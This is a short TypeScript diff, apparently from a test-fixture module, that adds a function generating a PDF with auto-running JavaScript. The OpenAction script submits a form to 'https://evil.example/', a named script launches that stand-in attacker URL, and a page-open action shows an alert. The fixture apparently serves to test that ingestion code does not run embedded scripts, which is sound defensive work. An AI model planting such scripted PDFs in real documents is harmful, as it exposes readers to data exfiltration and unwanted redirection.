@@ -365,3 +365,17 @@ export function docxBomb(article: SourceArticle, megabytes: number): Uint8Array 
   }
   return total;
 }
+
+/** A one-page PDF of `lines` that also carries JavaScript to run when opened (which nothing here runs). */
+export function scriptedPdf(lines: readonly string[]): Uint8Array {
+  const escape = (s: string) => s.replace(/[\\()]/g, '\\$&');
+  const ops = lines.map((l, i) => `BT /F1 12 Tf 50 ${760 - i * 16} Td (${escape(l)}) Tj ET`).join('\n');
+  return rawPdf([
+    "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert('pdf-xss'); this.submitForm('https://evil.example/'))>>/Names<</JavaScript<</Names[(x) 6 0 R]>>>>>>",
+    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
+    "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R/AA<</O<</S/JavaScript/JS(app.alert('page-open'))>>>>>>",
+    { dict: '', stream: strToU8(ops) },
+    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
+    "<</S/JavaScript/JS(app.launchURL('https://evil.example/'))>>",
+  ]);
+}
